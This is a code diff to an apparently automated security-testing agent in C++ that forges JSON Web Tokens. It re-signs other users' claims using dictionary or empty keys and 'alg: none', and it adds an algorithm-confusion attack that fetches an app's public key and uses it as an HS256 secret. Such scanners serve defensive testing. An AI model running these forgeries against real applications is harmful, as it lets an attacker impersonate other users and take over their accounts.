@@ -1,6 +1,7 @@
 // jwt-forgery: takes its own token and makes it another's: claims changed under the old signature,
-// no signature and "alg": "none", an empty key, and keys that everybody uses, found by signing what
-// the token says and comparing (RFC 8725; OWASP JSON Web Token Cheat Sheet).
+// no signature and "alg": "none", an empty key, keys that everybody uses, found by signing what the
+// token says and comparing, and a public key as if it were a shared one (RFC 8725, 2.1 and 3.1; OWASP
+// JSON Web Token Cheat Sheet).
 #include <algorithm>
 
 #include "core/attack/every_agent.h"
@@ -34,6 +35,7 @@ constexpr int kIdsAround = 4;
 
 class JwtForgery final : public Agent {
     void run(Target& target) override {
+        std::vector<std::string> const published = public_keys(target);
         Credentials const own = own_credentials(target);
         for (Credential const& each : own) {
             auto const jwt = read_jwt(each.value);
@@ -42,9 +44,22 @@ class JwtForgery final : public Agent {
             if (!keys.empty())
                 target.note("The signing key is in every dictionary: \"" + keys.front() + "\".");
             for (std::string const& claims : claims_of_others(target, *jwt))
-                for (std::string const& forged : forgeries(*jwt, claims, keys))
+                for (std::string const& forged : forgeries(*jwt, claims, keys, published))
                     try_out(target, each, forged);
         }
+    }
+
+    // As the app hands them out to whoever wants to verify its tokens.
+    static std::vector<std::string> public_keys(Target& target) {
+        std::vector<std::string> keys;
+        for (Endpoint const* each : endpoints_to_try(target)) {
+            if (each->method != "GET" || each->path.find("key") == std::string::npos) continue;
+            std::string const key = target.send(write_request(*each, samples(*each))).body;
+            if (key.find("-----BEGIN") == std::string::npos) continue;
+            keys.push_back(key);
+            keys.push_back(key.substr(0, key.find_last_not_of('\n') + 1));
+        }
+        return keys;
     }
 
     static void try_out(Target& target, Credential each, std::string const& forged) {
@@ -100,11 +115,17 @@ class JwtForgery final : public Agent {
     }
 
     static std::vector<std::string> forgeries(JwtText const& own, std::string const& claims,
-                                              std::vector<std::string> const& keys) {
+                                              std::vector<std::string> const& keys,
+                                              std::vector<std::string> const& published) {
         std::vector<std::string> all;
         JwtText forged{own.header, claims, own.signature};
         all.push_back(forged.write());
         for (std::string const& key : keys) {
+            forged.signature = hmac_signature(forged, key);
+            all.push_back(forged.write());
+        }
+        for (std::string const& key : published) {
+            forged.header = with_member(own.header, "alg", "\"HS256\"");
             forged.signature = hmac_signature(forged, key);
             all.push_back(forged.write());
         }
